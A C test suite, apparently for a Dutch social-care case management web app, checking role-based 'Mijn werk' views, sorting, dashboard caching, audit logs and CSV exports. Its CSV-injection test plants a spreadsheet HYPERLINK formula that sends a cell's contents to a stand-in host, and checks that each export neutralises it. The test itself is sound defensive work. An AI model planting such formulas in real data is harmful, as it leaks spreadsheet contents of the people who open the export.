	        " (%lld, 'financien', 'Schulden op orde', '2999-01-01', %lld, 0)", p, cons);
	long long doel = db_int("SELECT max(id) FROM doel");
	db_exec("INSERT INTO afspraak(doel_id, who_kind, persoon_id, what, due_date, created_by, created_at) VALUES"
	        " (%lld, 'inwoner', %lld, 'Brieven verzamelen', '2000-01-01', %lld, 0)", doel, pers, cons);
	/* An agreement the consulent carries in a household of someone else. */
	long long doel1 = db_int("SELECT min(d.id) FROM doel d JOIN plan p ON p.id = d.plan_id WHERE p.huishouden_id = %lld", H[1]);
	if (doel1 <= 0) {
		db_exec("INSERT INTO doel(plan_id, domain, wish, target_date, created_by, created_at) SELECT id, 'werk_en_opleiding',"
		        " 'Werk vinden', '2999-01-01', %lld, 0 FROM plan WHERE huishouden_id = %lld", A, H[1]);
		doel1 = db_int("SELECT max(id) FROM doel");
	}
	db_exec("INSERT INTO afspraak(doel_id, who_kind, medewerker_id, what, due_date, created_by, created_at) VALUES"
	        " (%lld, 'medewerker', %lld, 'Werkgever bellen', '2999-06-01', %lld, 0)", doel1, cons, A);

	struct agent c, g, tl, beh;
	struct http_resp r;
	CHECK(agent_sign_in(&c, &S, U_CONSULENT) && agent_sign_in(&g, &S, U_GEBIEDSTEAM) &&
	      agent_sign_in(&tl, &S, U_TEAMLEIDER) && agent_sign_in(&beh, &S, U_BEHEERDER), "Mijn werk: sign in");
	CHECK(get(&c, "/", &r) == 200, "Mijn werk: consulent");
	CHECK(http_body_has(&r, "Werkstraat 1") && http_body_has(&r, "03-02-2000 (verlopen)"),
	      "Mijn werk: my household with its next evaluation, marked overdue");
	char want[256];
	snprintf(want, sizeof want, "href=\"/huishoudens/%lld/plan\">2</a>", hh);
	CHECK(http_body_has(&r, want), "Mijn werk: 2 overdue items (an agreement and the evaluation)");
	CHECK(http_body_has(&r, "Mijn open afspraken in het plan") && http_body_has(&r, "Brieven verzamelen") &&
	      http_body_has(&r, "Werkgever bellen") && http_body_has(&r, "01-01-2000 <strong>(verlopen)</strong>"),
	      "Mijn werk: my open agreements, also those I carry elsewhere, overdue marked");
	CHECK(strstr(r.body, "Brieven verzamelen") < strstr(r.body, "Werkgever bellen"), "Mijn werk: agreements by due date");
	CHECK(!http_body_has(&r, "Mijn team") && http_body_has(&r, "Toegang bij uitzondering"),
	      "Mijn werk: no team view for a consulent; accesses by exception kept");
	CHECK(http_body_has(&r, "href=\"/?afspraken=uiterlijk&amp;afspraken_richting=op\">Uiterlijk") &&
	      http_body_has(&r, "href=\"/?afspraken=dagen_te_laat&amp;afspraken_richting=af\">Dagen te laat") &&
	      !http_body_has(&r, "aria-sort="), "Mijn werk: the column headers are sort links, nothing sorted yet");
	http_resp_free(&r);
	/* Issue 13 item 4: sorted by a column, the other way round, and back. */
	CHECK(get(&c, "/?afspraken=dagen_te_laat&afspraken_richting=op", &r) == 200 &&
	      strstr(r.body, "Werkgever bellen") < strstr(r.body, "Brieven verzamelen") &&
	      http_body_has(&r, "aria-sort=\"ascending\"><a class=\"loket-sort\" "
	                        "href=\"/?afspraken=dagen_te_laat&amp;afspraken_richting=af\">Dagen te laat"),
	      "Mijn werk: agreements sorted by days overdue, least first, the header says so and turns it round");
	http_resp_free(&r);
	CHECK(get(&c, "/?afspraken=dagen_te_laat&afspraken_richting=af", &r) == 200 &&
	      strstr(r.body, "Brieven verzamelen") < strstr(r.body, "Werkgever bellen") &&
	      http_body_has(&r, "aria-sort=\"descending\""), "Mijn werk: and most first");
	http_resp_free(&r);
	CHECK(get(&c, "/?afspraken=onzin&afspraken_richting=zijwaarts", &r) == 200 &&
	      strstr(r.body, "Brieven verzamelen") < strstr(r.body, "Werkgever bellen") && !http_body_has(&r, "aria-sort="),
	      "Mijn werk: an unknown column keeps the list's own order");
	http_resp_free(&r);
	CHECK(get(&tl, "/", &r) == 200 && http_body_has(&r, "<h2 class=\"utrecht-heading-2\" id=\"mijn-team\">Mijn team</h2>") &&
	      http_body_has(&r, "Sanne de Boer") && http_body_has(&r, "huishoudens zonder regisseur") &&
	      http_body_has(&r, "aanmeldingen en signalen met een zorg over veiligheid") && http_body_has(&r, "href=\"/team\"") &&
	      http_body_has(&r, "Teamdashboard"), "Mijn werk: the teamleider's team view with links to /team");
	http_resp_free(&r);
	CHECK(get(&g, "/", &r) == 200 && !http_body_has(&r, "Mijn team") && http_body_has(&r, "Mijn huishoudens") &&
	      !http_body_has(&r, "Teamdashboard"), "Mijn werk: gebiedsteam without team view or dashboard task");
	http_resp_free(&r);
	CHECK(get(&beh, "/", &r) == 200 && !http_body_has(&r, "Mijn huishoudens") && !http_body_has(&r, "Mijn team"),
	      "Mijn werk: a beheerder sees no case lists");
	http_resp_free(&r);
	CHECK(get(&tl, "/team", &r) == 200 && http_body_has(&r, "aria-current=\"page\">Team</a>"),
	      "nav: Team is the current item on the dashboard");
	http_resp_free(&r);
}

/* The aggregate figures are kept between requests (src/db/dashboard.c)
 * but never outlive a change to what they are made of: a closing written
 * straight into the database (past the application) shows at once, and a
 * change that cannot move a figure leaves the version alone. */
static void cache(struct agent *tl, const char *q)
{
	char path[512];
	snprintf(path, sizeof path, "/api/v1/dashboard?%s", q);
	int st;
	json_t *d1 = api(tl, path, &st);
	json_t *d2 = api(tl, path, &st);
	CHECK(d1 && d2 && json_equal(json_object_get(d1, "uitstroom"), json_object_get(d2, "uitstroom")) &&
	      json_equal(json_object_get(d1, "caseload"), json_object_get(d2, "caseload")),
	      "cache: the same figures twice");
	json_int_t before = json_integer_value(json_object_get(month_row(json_object_get(d1, "uitstroom"), "2025-03"),
	                                                       "totaal"));
	long long v0 = db_int("SELECT n FROM statistiek_versie");
	db_exec("UPDATE huishouden SET street = 'Andere straat' WHERE id = %lld", H[8]);
	CHECK(db_int("SELECT n FROM statistiek_versie") == v0, "cache: an address change does not touch the figures' version");
	long long extra = household("Cachestraat", G, A, "afgesloten", "2025-01-10", NULL, NULL, "2025-03-20", "verhuisd");
	CHECK(extra > 0 && db_int("SELECT n FROM statistiek_versie") > v0, "cache: a closed household bumps the version");
	json_t *d3 = api(tl, path, &st);
	json_int_t after = json_integer_value(json_object_get(month_row(json_object_get(d3, "uitstroom"), "2025-03"),
	                                                      "totaal"));
	CHECK_INT(after, before + 1, "cache: the new closing counts in March's outflow at once");
	db_exec("DELETE FROM persoon WHERE huishouden_id = %lld", extra);
	db_exec("DELETE FROM huishouden WHERE id = %lld", extra);
	json_t *d4 = api(tl, path, &st);
	CHECK(d4 && json_equal(json_object_get(d1, "uitstroom"), json_object_get(d4, "uitstroom")),
	      "cache: and is gone again once the household is");
	json_decref(d1);
	json_decref(d2);
	json_decref(d3);
	json_decref(d4);
}

/* A planted address or provider name starting a formula stays text in
 * every export (OWASP: a leading single quote). */
static void csv_injection(struct agent *tl)
{
	CHECK(db_exec("UPDATE huishouden SET street = '=HYPERLINK(\"http://x.example/\"&A1;\"Klik\")' WHERE id = %lld",
	              H[7]) == 0 &&
	      db_exec("UPDATE aanbieder SET name = '@SUM(1+1)' WHERE name = 'Zorg Test BV'") == 0 &&
	      db_exec("UPDATE medewerker SET name = '-2+3 Test' WHERE id = %lld", A) == 0,
	      "csv injection: formulas planted in an address, a provider and an employee name");
	struct http_resp r;
	CHECK(get(tl, "/team/export/zonder-regisseur.csv?team=alle", &r) == 200 &&
	      http_body_has(&r, ";\"'=HYPERLINK(\"\"http://x.example/\"\"&A1;\"\"Klik\"\") 1, 3861 AB Nijkerk\";") &&
	      !http_body_has(&r, ";=HYPERLINK") && !http_body_has(&r, ";\"=HYPERLINK"),
	      "csv injection: the address starts with a quote in zonder-regisseur.csv");
	http_resp_free(&r);
	CHECK(get(tl, "/team/export/aanbieders.csv?team=alle&van=2025-01&tot=2025-03", &r) == 200 &&
	      http_body_has(&r, "\r\n'@SUM(1+1);") && !http_body_has(&r, "\r\n@SUM"),
	      "csv injection: the provider starts with a quote in aanbieders.csv");
	http_resp_free(&r);
	CHECK(get(tl, "/team/export/caseload.csv?team=alle", &r) == 200 && http_body_has(&r, "\r\n'-2+3 Test;") &&
	      !http_body_has(&r, "\r\n-2+3"), "csv injection: the employee starts with a quote in caseload.csv");
	http_resp_free(&r);
}

int main(void)
{
	if (ts_start(&S, (const char *const[]){"--cookie-insecure", NULL}) != 0) {
		T_FAIL("server start", "see %s", S.log);
		T_EXIT();
	}
	setup();
	CHECK(T > 0 && G > 0 && A > 0 && C > 0 && H[8] > 0 && P2 > 0, "setup: the known situation is in the database");
	struct agent tl;
	CHECK(agent_sign_in(&tl, &S, U_TEAMLEIDER), "teamleider signs in");
	char q[256];
	snprintf(q, sizeof q, "team=%lld&gebied=%lld&van=2025-01&tot=2025-03", T, G);
	figures(&tl, q);
	page_and_lists(&tl, q);
	CHECK(db_int("SELECT count(*) FROM audit WHERE action = 'dashboard.view' AND object_type = 'team'"
	             " AND object_id = %lld", T) >= 2, "audit: dashboard views are logged with the team");
	CHECK(db_int("SELECT count(*) FROM audit WHERE action = 'dashboard.lijst' AND object_type = 'regisseur'"
	             " AND object_id = %lld", A) == 2, "audit: a list behind a figure is logged, once per view (two, one sorted)");
	exports(&tl, q);
	cache(&tl, q);
	access_and_api_errors();
	mijn_werk();
	csv_injection(&tl);
	CHECK(ts_stop(&S) == 0, "server stops cleanly");
	T_EXIT();
}
